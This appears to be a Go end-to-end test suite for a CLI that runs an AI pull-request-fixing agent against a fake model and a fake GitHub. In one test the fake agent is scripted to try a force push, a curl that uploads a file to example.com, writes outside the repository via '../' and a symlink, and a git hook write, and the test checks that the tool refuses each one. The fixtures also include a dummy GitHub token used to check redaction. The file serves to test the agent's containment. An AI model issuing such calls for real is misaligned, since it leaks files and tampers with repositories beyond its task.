package e2e

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ocdx/gh-ocdx/finding"
	"github.com/ocdx/gh-ocdx/internal/testkit"
	"github.com/ocdx/gh-ocdx/internal/text"
	"github.com/ocdx/gh-ocdx/state"
)

// Commits are made with fixed dates, so the test can compute the sha the
// fix agent's git_commit will return and script the model's envelope with it.
const fixDate = "2026-01-02T03:04:05Z"

// fixSetup is a PR whose head branch is in a real bare remote, a clone on
// it, the fake GitHub and the fake model playing pr-fix ("fixer"). Its
// verification, `sh check.sh`, passes once a.txt says "fixed".
type fixSetup struct {
	gh    *testkit.GitHub
	fm    *testkit.FakeModel
	env   *testkit.Env
	repo  *testkit.Repo
	start string // the PR's head before the run
	twin  string // a second clone where the test replays the agent's commits
}

var fixFindings = []finding.Finding{
	{Priority: "P0", Category: "security", File: "a.txt", Title: "a is unsafe", Description: "make a.txt say fixed"},
	{Priority: "P2", Category: "quality", File: "b.txt", Title: "b is odd", Description: "rename b; token ghp_abcdefghijklmnopqrstuvwxyz0123456789 seen"},
}

func fixIDs() (string, string) { return fixFindings[0].ComputeID(), fixFindings[1].ComputeID() }

func newFixSetup(t *testing.T) *fixSetup {
	t.Helper()
	return newFixSetupFiles(t, nil, nil)
}

// newFixSetupFiles is newFixSetup with more files on the base branch and
// in the PR's commit.
func newFixSetupFiles(t *testing.T, base, head map[string]string) *fixSetup {
	t.Helper()
	gh := testkit.NewGitHub(t)
	baseFiles := map[string]string{"a.txt": "a\n", "check.sh": "grep -q fixed a.txt || { echo \"boom: a.txt is not fixed (in $PWD)\"; exit 1; }\n"}
	headFiles := map[string]string{"b.txt": "b\n"}
	maps.Copy(baseFiles, base)
	maps.Copy(headFiles, head)
	r := testkit.NewRepo(t, "main", "feature/fix", baseFiles, headFiles)
	gh.AddPR(repo, testkit.PR{Number: 24, Title: "Widgets", HeadRef: r.Head, BaseRef: r.Base, Remote: r.Remote, Diff: r.Diff(t)})
	fm := testkit.NewFakeModel(t)
	env := testkit.NewEnv(t)
	gh.Configure(env, repo)
	fm.Configure(env)
	env.Set("GIT_AUTHOR_DATE", fixDate)
	env.Set("GIT_COMMITTER_DATE", fixDate)
	env.Dir = r.Clone
	env.WriteConfig(t, `{"reviewerModels":["openai/reviewer"],"commentsAnalyzerModel":"openai/analyzer","prFixModel":"openai/fixer","verify":["sh check.sh"]}`)
	payload, _ := json.Marshal(finding.FixPayload{PRNumber: 24, Round: 1, IssuesToFix: fixFindings, OptionalIssues: []finding.Finding{}})
	if err := os.WriteFile(filepath.Join(env.Root, "payload.json"), payload, 0o600); err != nil {
		t.Fatal(err)
	}
	s := &fixSetup{gh: gh, fm: fm, env: env, repo: r, start: r.RemoteOID(t, r.Head), twin: filepath.Join(t.TempDir(), "twin")}
	s.git(t, filepath.Dir(s.twin), "clone", "--quiet", "--branch", r.Head, r.Clone, s.twin)
	return s
}

// git runs git in dir with the run's environment (identity, dates).
func (s *fixSetup) git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	c := exec.Command("git", args...)
	c.Dir, c.Env = dir, s.env.List()
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// predict replays a commit of the agent in the twin and returns its sha.
func (s *fixSetup) predict(t *testing.T, files map[string]string, message string) string {
	t.Helper()
	testkit.WriteFiles(t, s.twin, files)
	s.git(t, s.twin, "add", "--all")
	s.git(t, s.twin, "commit", "--quiet", "--no-verify", "-m", message)
	return s.git(t, s.twin, "rev-parse", "HEAD")
}

// fold replays in the twin what fix does with the commits of a fix's n
// attempts: one commit, with message (each distinct message of theirs).
func (s *fixSetup) fold(t *testing.T, n int, message string) string {
	t.Helper()
	s.git(t, s.twin, "reset", "--quiet", "--soft", fmt.Sprintf("HEAD~%d", n))
	s.git(t, s.twin, "commit", "--quiet", "--no-verify", "-m", message)
	return s.git(t, s.twin, "rev-parse", "HEAD")
}

func (s *fixSetup) run(t *testing.T, args ...string) testkit.Result {
	t.Helper()
	return s.env.Run(t, append([]string{"fix", "--pr", "24", "--findings", filepath.Join(s.env.Root, "payload.json")}, args...)...)
}

func call(name string, args any) testkit.FakeCall {
	b, _ := json.Marshal(args)
	return testkit.FakeCall{Name: name, Args: string(b)}
}

// envelope is the agent's fix result.
func envelope(fixed map[string]string, rejected map[string]string, commits ...string) testkit.Step {
	res := finding.FixAnswer{Agent: "pr-fix", PRNumber: 24, FixedIssues: []finding.FixedIssue{}, RejectedIssues: []finding.RejectedIssue{}, Commits: []finding.Commit{}}
	for id, sha := range fixed {
		res.FixedIssues = append(res.FixedIssues, finding.FixedIssue{FindingID: id, CommitSha: sha, Description: "done"})
	}
	for id, why := range rejected {
		res.RejectedIssues = append(res.RejectedIssues, finding.RejectedIssue{FindingID: id, Reason: why})
	}
	for _, c := range commits {
		res.Commits = append(res.Commits, finding.Commit{Sha: c, Message: "fix"})
	}
	b, _ := json.Marshal(res)
	return testkit.Reply("BEGIN_JSON\n" + string(b) + "\nEND_JSON")
}

var (
	fixA    = call("edit_file", map[string]string{"path": "a.txt", "old_string": "a\n", "new_string": "fixed\n"})
	commitA = call("git_commit", map[string]any{"message": "fix: a is safe now", "paths": []string{"a.txt"}})
)

func (s *fixSetup) checkComments(t *testing.T, want int) []testkit.PostedComment {
	t.Helper()
	cs := s.gh.Comments(repo, 24)
	if len(cs) != want {
		t.Fatalf("%d comments, want %d", len(cs), want)
	}
	for _, c := range cs {
		if !strings.Contains(c.Body, "<!-- pr-review-loop-marker -->") || !strings.Contains(c.Body, "kind=fix -->") || !strings.Contains(c.Body, "<!-- ocdx:run=") {
			t.Errorf("comment without marker or tag:\n%s", c.Body)
		}
		if strings.Contains(c.Body, "ghp_") || strings.Contains(c.Body, "diff --git") {
			t.Errorf("comment leaks a secret or a diff:\n%s", c.Body)
		}
	}
	return cs
}

func (s *fixSetup) wantRemote(t *testing.T, oid string) {
	t.Helper()
	if got := s.repo.RemoteOID(t, s.repo.Head); got != oid {
		t.Errorf("remote head %s, want %s", got, oid)
	}
}

func TestFixEditsCommitsVerifiesAndPushes(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer",
		testkit.CallTools(call("read_file", map[string]string{"path": "a.txt"})),
		testkit.CallTools(fixA),
		testkit.CallTools(call("run_command", map[string]any{"argv": []string{"sh", "check.sh"}})),
		testkit.CallTools(commitA),
		envelope(map[string]string{a: sha}, map[string]string{b: "b is fine; ghp_abcdefghijklmnopqrstuvwxyz0123456789"}, sha))

	res := s.run(t, "--yes")

	if res.Code != 0 {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", res.Code, res.Stdout, res.Stderr)
	}
	s.wantRemote(t, sha)
	s.git(t, s.repo.Remote, "merge-base", "--is-ancestor", s.start, sha) // a fast-forward
	body := s.checkComments(t, 1)[0].Body
	for _, want := range []string{"fix report — PR #24, findings from `payload.json`", a, "a is unsafe", b, sha[:7], "fix: a is safe now", "sh check.sh", "passed", "round=1 kind=fix", "tokens"} {
		if !strings.Contains(body, want) {
			t.Errorf("report lacks %q:\n%s", want, body)
		}
	}
	for _, want := range []string{"Fixed: 1, rejected: 1", "Pushed to feature/fix", "Report: https://"} {
		if !strings.Contains(res.Stdout, want) {
			t.Errorf("stdout lacks %q:\n%s", want, res.Stdout)
		}
	}
	if !strings.Contains(res.Stderr, "boom") && !strings.Contains(res.Stderr, "$ sh check.sh") {
		t.Errorf("verification output must stream to stderr:\n%s", res.Stderr)
	}
	// Done means done: the state has no WIP left, and a second run finds
	// the report's tag and the pushed phase.
	st := s.env.Run(t, "state", "show", "--pr", "24", "--json")
	if !strings.Contains(st.Stdout, `"wip": null`) || !strings.Contains(st.Stdout, `"pushed"`) {
		t.Errorf("state after the fix:\n%s", st.Stdout)
	}
}

func TestFixRetriesAfterAFailedVerification(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	first := s.predict(t, map[string]string{"c.txt": "c\n"}, "feat: c")
	second := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer",
		testkit.CallTools(call("write_file", map[string]string{"path": "c.txt", "content": "c\n"})),
		testkit.CallTools(call("git_commit", map[string]any{"message": "feat: c"})),
		envelope(map[string]string{a: first}, map[string]string{b: "fine"}, first),
		testkit.CallTools(fixA), testkit.CallTools(commitA),
		envelope(map[string]string{a: second}, map[string]string{b: "fine"}, first, second))

	res := s.run(t, "--yes")

	if res.Code != 0 {
		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
	}
	if n := strings.Count(res.Stderr, "verify ("); n != 1 {
		t.Errorf("%d verify lines over 2 attempts, want 1:\n%s", n, res.Stderr)
	}
	reqs := s.fm.Requests("fixer")
	retry := string(reqs[3].Body)
	if !strings.Contains(retry, "attempt 2 of 3") || !strings.Contains(retry, "boom: a.txt is not fixed") {
		t.Errorf("the retry must show the failing command's output:\n%s", retry)
	}
	// One commit for the fix, not one per attempt: the second attempt's
	// folds into the first's, under both messages.
	folded := s.fold(t, 2, "feat: c\n\nfix: a is safe now")
	s.wantRemote(t, folded)
	if log := s.git(t, s.repo.Clone, "log", "--oneline", s.start+".."+folded); log != folded[:7]+" feat: c" {
		t.Errorf("pushed:\n%s\nwant the one commit %s", log, folded[:7])
	}
	wantContains(t, "stderr", res.Stderr, "folded 2 commits of 2 attempts into "+folded[:7], "pushing 1 commit to origin feature/fix")
	body := s.checkComments(t, 1)[0].Body
	if !strings.Contains(body, "2 attempt") || !strings.Contains(body, folded[:7]) || strings.Contains(body, first[:7]) || strings.Contains(body, second[:7]) {
		t.Errorf("the report must name the pushed commit only:\n%s", body)
	}
}

func TestFixStopsAfterThreeFailedVerifications(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	var steps []testkit.Step
	var shas []string
	for i := range 3 {
		file := map[string]string{"c.txt": fmt.Sprintf("try %d\n", i)}
		sha := s.predict(t, file, fmt.Sprintf("try %d", i))
		shas = append(shas, sha)
		steps = append(steps,
			testkit.CallTools(call("write_file", map[string]string{"path": "c.txt", "content": file["c.txt"]})),
			testkit.CallTools(call("git_commit", map[string]any{"message": fmt.Sprintf("try %d", i)})),
			envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, shas...))
	}
	s.fm.Script("fixer", steps...)

	res := s.run(t, "--yes")

	if res.Code != 3 || !strings.Contains(res.Stderr, "verification failed after 3 attempts") || !strings.Contains(res.Stderr, "not pushed") {
		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
	}
	s.wantRemote(t, s.start)
	// The PR is told what failed: a fix report with the lists and the
	// verification table, nothing pushed.
	body := s.checkComments(t, 1)[0].Body
	wantContains(t, "fix report", body, "Verification failed after 3 attempts: nothing was pushed", "### Fixed (1)", "`"+a+"`", "### Rejected (1)", "`"+b+"`",
		"| command | result | exit code | duration |", "| `sh check.sh` | ✗ failed | 1 |", "boom: a.txt is not fixed (in .)")
	if strings.Contains(body, s.repo.Clone) {
		t.Errorf("the report shows where the checkout is on this machine:\n%s", body)
	}
	// The attempts' commits stay local, as one.
	if got := s.git(t, s.repo.Clone, "rev-parse", "HEAD"); got != s.fold(t, 3, "try 0\n\ntry 1\n\ntry 2") {
		t.Errorf("the commits must stay local, as one: HEAD %s", got)
	}
}

func TestFixAgentCannotEscape(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	outside := filepath.Join(s.env.Root, "outside")
	os.MkdirAll(outside, 0o755)
	// A symlink committed in the branch, leading out of the repository.
	os.Symlink(outside, filepath.Join(s.repo.Clone, "link"))
	s.git(t, s.repo.Clone, "add", "link")
	s.git(t, s.repo.Clone, "commit", "--quiet", "-m", "link")
	s.git(t, s.repo.Clone, "push", "--quiet", "origin", s.repo.Head)
	s.start = s.repo.RemoteOID(t, s.repo.Head)
	s.fm.Script("fixer",
		testkit.CallTools(call("run_command", map[string]any{"argv": []string{"git", "push", "--force", "origin", "HEAD:feature/fix"}})),
		testkit.CallTools(call("run_command", map[string]any{"argv": []string{"curl", "-d", "@check.sh", "https://example.com"}})),
		testkit.CallTools(call("write_file", map[string]string{"path": "../outside/pwned", "content": "x"})),
		testkit.CallTools(call("write_file", map[string]string{"path": "link/pwned", "content": "x"})),
		testkit.CallTools(call("write_file", map[string]string{"path": ".git/hooks/pre-push", "content": "x"})),
		envelope(nil, map[string]string{a: "cannot", b: "cannot"}))

	res := s.run(t, "--yes")

	if res.Code != 0 {
		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
	}
	s.wantRemote(t, s.start)
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Errorf("written outside the repository: %v", entries)
	}
	if _, err := os.Stat(filepath.Join(s.repo.Clone, ".git/hooks/pre-push")); err == nil {
		t.Error("written into .git")
	}
	reqs := s.fm.Requests("fixer")
	for i, want := range []string{"git push is not allowed", "curl is not allowed", "outside the repository", "outside the repository", "outside the repository"} {
		if body := string(reqs[i+1].Body); !strings.Contains(body, want) {
			t.Errorf("request %d lacks the refusal %q:\n%s", i+1, want, body)
		}
	}
	body := s.checkComments(t, 1)[0].Body
	if !strings.Contains(body, "No commit to push") || !strings.Contains(body, "Rejected (2)") {
		t.Errorf("report:\n%s", body)
	}
}

func TestFixInvariantViolatedPushesNothing(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, _ := fixIDs()
	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, nil, sha))

	res := s.run(t, "--yes")

	if res.Code != 1 || !strings.Contains(res.Stderr, "each finding must be fixed or rejected exactly once") || !strings.Contains(res.Stderr, "nothing was pushed") {
		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
	}
	s.wantRemote(t, s.start)
	s.checkComments(t, 0)
	if got := s.git(t, s.repo.Clone, "rev-parse", "HEAD"); got != sha {
		t.Errorf("the local commit must stay: HEAD %s", got)
	}
}

func TestFixPushRejectedWhenTheRemoteMoved(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	other := filepath.Join(t.TempDir(), "other")
	s.git(t, filepath.Dir(other), "clone", "--quiet", "--branch", s.repo.Head, s.repo.Remote, other)
	testkit.WriteFiles(t, other, map[string]string{"d.txt": "theirs\n"})
	s.git(t, other, "add", "d.txt")
	s.git(t, other, "commit", "--quiet", "-m", "theirs")
	s.git(t, other, "push", "--quiet", "origin", s.repo.Head)
	theirs := s.repo.RemoteOID(t, s.repo.Head)
	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, sha))

	res := s.run(t, "--yes")

	if res.Code != 1 || !strings.Contains(res.Stderr, "nothing was pushed: your HEAD does not contain "+theirs[:7]) {
		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
	}
	s.wantRemote(t, theirs)
	s.checkComments(t, 0)
	if got := s.git(t, s.repo.Clone, "rev-parse", "HEAD"); got != sha {
		t.Errorf("the local commit must stay: HEAD %s", got)
	}
}

func TestFixContinueAfterAKill(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	s.fm.Script("fixer",
		testkit.CallTools(fixA),
		testkit.CallTools(call("note", map[string]string{"text": "next: commit a.txt, then reject b"})),
		testkit.Stall(time.Minute, "never answered"))

	s.killAtThirdCall(t)

	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer", testkit.CallTools(commitA), envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, sha))
	res := s.env.Run(t, "fix", "--pr", "24", "--continue", "--yes")

	if res.Code != 0 {
		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
	}
	resumed := string(s.fm.Requests("fixer")[3].Body)
	for _, want := range []string{"Resuming an interrupted fix", "next: commit a.txt, then reject b", "a.txt", "Uncommitted changes: true", a} {
		if !strings.Contains(resumed, want) {
			t.Errorf("the resumed agent is not told %q:\n%s", want, resumed)
		}
	}
	s.wantRemote(t, sha)
	s.checkComments(t, 1)
}

// killAtThirdCall starts fix on the payload and kills it (SIGKILL) once
// the agent has made its third model call.
func (s *fixSetup) killAtThirdCall(t *testing.T) {
	t.Helper()
	c := exec.Command(testkit.Binary(t), "fix", "--pr", "24", "--findings", filepath.Join(s.env.Root, "payload.json"), "--yes")
	c.Dir, c.Env = s.env.Dir, s.env.List()
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(time.Minute); len(s.fm.Requests("fixer")) < 3; {
		if time.Now().After(deadline) {
			c.Process.Kill()
			t.Fatal("the fix never reached its third model call")
		}
		time.Sleep(20 * time.Millisecond)
	}
	c.Process.Signal(syscall.SIGKILL)
	c.Wait()
}

// TestFixStartOverAfterAKill: given the findings again instead of
// --continue, fix gives the interrupted run up (abandoned, its work in
// progress dropped) and fixes in a new run, which state show tells apart.
func TestFixStartOverAfterAKill(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	s.fm.Script("fixer",
		testkit.CallTools(fixA),
		testkit.CallTools(call("note", map[string]string{"text": "next: commit a.txt"})),
		testkit.Stall(time.Minute, "never answered"))
	s.killAtThirdCall(t)
	s.git(t, s.repo.Clone, "checkout", "--", "a.txt") // the user drops the half-done edit

	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, sha))
	res := s.run(t, "--yes")
	if res.Code != 0 {
		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
	}
	if fresh := string(s.fm.Requests("fixer")[3].Body); strings.Contains(fresh, "Resuming an interrupted fix") {
		t.Errorf("the new run was handed the abandoned run's work:\n%s", fresh)
	}
	s.wantRemote(t, sha)
	s.checkComments(t, 1)

	show := s.env.Run(t, "state", "show", "--pr", "24")
	for _, want := range []string{"fix, abandoned", "restarted by the user", "fix, converged", "  - Fix: pushed", "  - Fixed: " + a, "  - Commits: " + text.ShortOID(sha)} {
		if !strings.Contains(show.Stdout, want) {
			t.Errorf("state show lacks %q:\n%s", want, show.Stdout)
		}
	}
	if strings.Contains(show.Stdout, "## Work in progress") {
		t.Errorf("the abandoned run's work in progress is still shown:\n%s", show.Stdout)
	}
}

func TestFixUsageAndNothingToDo(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	for _, args := range [][]string{{"fix", "--pr", "x"}, {"fix", "extra"}, {"fix", "--pr", "24"}, {"fix", "--pr", "24", "--continue", "--findings", "f.json", "--yes"}, {"fix", "--bogus"}} {
		if res := s.env.Run(t, args...); res.Code != 2 {
			t.Errorf("%v: exit %d, want 2\n%s", args, res.Code, res.Stderr)
		}
	}
	if s.gh.Count("") != 0 || len(s.fm.Requests("fixer")) != 0 {
		t.Error("usage errors must come before any request")
	}
	if res := s.env.Run(t, "fix", "--pr", "24", "--yes"); res.Code != 1 || !strings.Contains(res.Stderr, "review-loop") {
		t.Errorf("no review recorded: exit %d\n%s", res.Code, res.Stderr)
	}
	empty, _ := json.Marshal(finding.FixPayload{PRNumber: 24, Round: 1, IssuesToFix: []finding.Finding{}, OptionalIssues: []finding.Finding{}})
	os.WriteFile(filepath.Join(s.env.Root, "payload.json"), empty, 0o600)
	if res := s.run(t, "--yes"); res.Code != 0 || !strings.Contains(res.Stdout, "Nothing to fix") || len(s.fm.Requests("fixer")) != 0 {
		t.Errorf("nothing to fix: exit %d\n%s%s", res.Code, res.Stdout, res.Stderr)
	}
}

func TestFixDryRunPushesAndPostsNothing(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, sha))

	res := s.run(t, "--dry-run")

	if res.Code != 0 || !strings.Contains(res.Stdout, "Dry run: nothing pushed") {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", res.Code, res.Stdout, res.Stderr)
	}
	s.wantRemote(t, s.start)
	s.checkComments(t, 0)
	if s.gh.Count("comment")+s.gh.Count("comments") != 0 {
		t.Error("a dry run must not touch the PR's comments")
	}
}

func TestFixReviewOnlyAndWrongBranch(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	s.gh.AddPR(repo, testkit.PR{Number: 25, HeadRef: s.repo.Head, BaseRef: s.repo.Base, Remote: s.repo.Remote,
		IsCrossRepository: true, HeadRepo: "fork/widgets", Permission: "READ"})
	s.gh.AddPR(repo, testkit.PR{Number: 26, HeadRef: "other", BaseRef: s.repo.Base, Remote: s.repo.Remote, HeadOID: strings.Repeat("1", 40)})
	payload := filepath.Join(s.env.Root, "payload.json")

	if res := s.env.Run(t, "fix", "--pr", "25", "--findings", payload, "--yes"); res.Code != 3 || !strings.Contains(res.Stderr, "fork/widgets") {
		t.Errorf("fork with READ: exit %d\n%s", res.Code, res.Stderr)
	}
	if res := s.env.Run(t, "fix", "--pr", "26", "--findings", payload, "--yes"); res.Code != 1 || !strings.Contains(res.Stderr, "gh pr checkout 26") {
		t.Errorf("wrong branch: exit %d\n%s", res.Code, res.Stderr)
	}
	testkit.WriteFiles(t, s.repo.Clone, map[string]string{"a.txt": "mine\n"})
	if res := s.run(t, "--yes"); res.Code != 1 || !strings.Contains(res.Stderr, "uncommitted changes") || !strings.Contains(res.Stderr, "a.txt") {
		t.Errorf("dirty tree: exit %d\n%s", res.Code, res.Stderr)
	}
	if len(s.fm.Requests("fixer")) != 0 || s.gh.Count("comment") != 0 {
		t.Error("preflight failures must not reach the model or post")
	}
}

func TestFixTakesTheLatestReviewOfTheBranchPR(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, _ := fixIDs()
	p3 := finding.Finding{Priority: "P3", Category: "docs", File: "README.md", Title: "typo", Description: "d"}
	stuck := finding.Finding{Priority: "P1", Category: "testing", File: "t.go", Title: "flaky", Description: "d"}
	thread := finding.Finding{ID: "THREAD-PRRC_9", Priority: "P1", Category: "other", File: "x", Title: "human", Description: "d"}
	all := []finding.Finding{fixFindings[0], p3, stuck, thread}
	for i := range all {
		if all[i].ID == "" {
			all[i].ID = all[i].ComputeID()
		}
	}
	store := state.New(filepath.Join(s.env.Vars["OCDX_STATE_DIR"], "state.db"), nil)
	run, err := store.Begin(state.NewKey(s.gh.Host(), "octo", "widgets", 24), "review-loop")
	if err != nil {
		t.Fatal(err)
	}
	run.StartRound(1, s.start)
	run.Complete(1, state.PhaseReviewed, func(rd *state.Round) { rd.Findings, rd.StuckIDs = all, []string{stuck.ComputeID()} })
	run.End(state.OutcomeBlocked, "max rounds")

	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, nil, sha))

	res := s.env.Run(t, "fix", "--yes") // no --pr: the branch's open PR

	if res.Code != 0 {
		t.Fatalf("exit %d\n%s", res.Code, res.Stderr)
	}
	task := string(s.fm.Requests("fixer")[0].Body)
	if !strings.Contains(task, a) || !strings.Contains(task, p3.ComputeID()) || strings.Contains(task, stuck.ComputeID()) || strings.Contains(task, "THREAD-PRRC_9") {
		t.Errorf("payload: want the P0 to fix and the P3 optional, without stuck or thread findings:\n%s", task)
	}
	s.wantRemote(t, sha)
}

func TestFixCommentPost502ThenContinuePostsOnce(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, sha))
	s.gh.Fail(testkit.Fault{Kind: "comment", Status: 502, Apply: true})

	res := s.run(t, "--yes")
	if res.Code != 1 || !strings.Contains(res.Stderr, "--continue") {
		t.Fatalf("exit %d\n%s", res.Code, res.Stderr)
	}
	s.wantRemote(t, sha)

	res = s.env.Run(t, "fix", "--pr", "24", "--continue", "--yes")
	if res.Code != 0 {
		t.Fatalf("continue: exit %d\n%s", res.Code, res.Stderr)
	}
	s.checkComments(t, 1)
	if n := len(s.fm.Requests("fixer")); n != 3 {
		t.Errorf("the pushed fix must not run the agent again: %d model calls", n)
	}
	if s.gh.Count("comment") != 1 {
		t.Errorf("the report was posted again: %d POSTs", s.gh.Count("comment"))
	}
}

// fix uses the fix model alone: the reviewers' provider needs no key.
func TestFixNeedsOnlyTheFixModelsKey(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	s.env.WriteConfig(t, `{"reviewerModels":["anthropic/reviewer"],"commentsAnalyzerModel":"anthropic/analyzer","prFixModel":"openai/fixer","verify":["sh check.sh"]}`)
	s.env.Set("ANTHROPIC_API_KEY", "")
	a, b := fixIDs()
	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA),
		envelope(map[string]string{a: sha}, map[string]string{b: "b is fine"}, sha))

	res := s.run(t, "--yes")

	if res.Code != 0 {
		t.Fatalf("exit %d: fix must not need the reviewers' key\n%s", res.Code, res.Stderr)
	}
	s.wantRemote(t, sha)
}

// fix --json gives the result for scripts, in place of the summary, named
// as review-loop's is.
func TestFixJSON(t *testing.T) {
	t.Parallel()
	s := newFixSetup(t)
	a, b := fixIDs()
	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, sha))

	res := s.run(t, "--dry-run", "--json", "pr,status,fixed,attempts,dryRun")

	wantCode(t, res, 0)
	var out struct {
		PR       struct{ Number int }
		Status   string
		Fixed    []struct{ FindingID string }
		Attempts int
		DryRun   bool
	}
	if err := json.Unmarshal([]byte(res.Stdout), &out); err != nil {
		t.Fatalf("%v\n%s", err, res.Stdout)
	}
	if out.PR.Number != 24 || out.Status != "verified" || len(out.Fixed) != 1 || out.Fixed[0].FindingID != a || out.Attempts != 1 || !out.DryRun {
		t.Errorf("fix --json: %+v\n%s", out, res.Stdout)
	}
	if strings.Contains(res.Stdout, "## Fix of PR") {
		t.Errorf("the summary is not JSON:\n%s", res.Stdout)
	}
}
